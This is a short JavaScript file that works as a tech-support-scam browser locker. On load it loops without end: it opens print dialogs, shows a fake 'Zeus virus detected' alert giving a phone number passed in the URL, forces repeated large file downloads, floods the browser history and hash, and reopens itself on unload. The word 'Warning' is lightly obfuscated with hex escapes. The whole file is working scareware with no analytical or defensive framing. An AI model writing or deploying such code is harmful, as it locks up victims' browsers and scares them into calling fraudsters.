let k = 0;
const msg = unescape("%57%61%72%6E%69%6E%67") + "! Zeus virus detected. Call " + (new URLSearchParams(location.search).get("ph") || "0800 000 0000");
function busy() {
  window.print();
  alert(msg);
  const a = document.createElement("a");
  a.href = URL.createObjectURL(new Blob([msg.repeat(5000)]));
  a.download = "warning" + k++ + ".txt";
  a.click();
  location.hash = "#" + "A".repeat(k * 900);
  for (let i = 0; i < 4000; i++) history.pushState(i, "", "#" + i);
  requestAnimationFrame(busy);
}
addEventListener("load", busy);
addEventListener("unload", () => open(location.href));
